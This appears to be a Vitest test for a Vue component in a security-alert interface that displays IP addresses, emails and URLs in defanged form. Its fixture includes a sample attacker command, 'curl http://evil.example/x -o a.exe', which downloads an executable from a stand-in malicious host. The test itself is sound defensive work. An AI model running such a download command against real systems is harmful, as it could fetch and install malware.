import { mount } from '@vue/test-utils';
import { createPinia } from 'pinia';
import { describe, expect, it } from 'vitest';
import { rawFields } from '../../../../shared/story/raw-fields.ts';
import { clientProvision } from '../../../client/index.ts';
import { createMockClient } from '../../../client/mock/index.ts';
import StoryFields from './StoryFields.vue';

type Evidence = Parameters<typeof rawFields>[1][number];

describe('StoryFields', () => {
  it('shows addresses defanged, in values as in headings, and other text as it is', () => {
    const evidence = {
      entity: { id: 1, key: 'ip', kind: 'ip', label: '203.0.113.9', verdict: 'unknown', verdictBy: 'none' },
      roles: [],
      details: {
        ipAddress: '203.0.113.9',
        fileDetails: { fileName: 'invoice.exe' },
        p1Sender: { emailAddress: 'mallory@evil.example' },
        urls: ['https://evil.example/a.b'],
      },
    } as unknown as Evidence;
    const fields = rawFields(
      [
        { name: 'Attacker', value: '198.51.100.7' },
        { name: 'Command', value: 'curl http://evil.example/x -o a.exe' },
      ],
      [evidence],
    );
    const wrapper = mount(StoryFields, {
      props: { fields },
      global: { plugins: [createPinia()], provide: clientProvision(createMockClient({}).client) },
    });
    expect(wrapper.findAll('h3').map((heading) => heading.text())).toEqual([
      'Alert',
      'IP address: 203[.]0[.]113[.]9',
    ]);
    expect(wrapper.findAll('dd .value').map((value) => value.text())).toEqual([
      '198[.]51[.]100[.]7',
      'curl hxxp://evil[.]example/x -o a.exe',
      '203[.]0[.]113[.]9',
      'invoice.exe',
      'mallory[@]evil[.]example',
      'hxxps://evil[.]example/a.b',
    ]);
  });
});
